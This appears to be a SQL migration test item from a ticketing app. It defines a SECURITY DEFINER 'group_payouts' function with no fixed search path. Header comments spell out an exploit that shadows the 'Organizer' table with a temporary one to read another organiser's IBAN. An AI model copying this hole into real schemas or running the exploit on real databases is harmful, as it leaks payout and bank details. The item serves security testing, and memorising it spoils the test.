-- The function has no search path of its own: a temporary table named like the table of organisers says who
-- is below whom.
-- about: group_payouts
-- as: hf_ticketing_app
-- exploit: SET app.organizer_id = 'orghill';
-- exploit: CREATE TEMP TABLE "Organizer" ("id" text, "parentId" text);
-- exploit: INSERT INTO "Organizer" VALUES ('orgroad', 'orghill');
-- exploit: SELECT * FROM group_payouts();
-- shows: Road-secret iban
-- A group sees the payouts of the organisers below it.
ALTER TABLE "Organizer" ADD COLUMN "parentId" text REFERENCES "Organizer" ("id");
CREATE FUNCTION group_payouts() RETURNS TABLE ("month" date, "amount" numeric, "iban" text)
LANGUAGE sql STABLE SECURITY DEFINER AS $$
  SELECT p."month", p."amount", p."iban"
    FROM "Payout" p JOIN "Organizer" o ON o."id" = p."organizerId"
   WHERE current_organizer() IN (o."id", o."parentId")
$$;
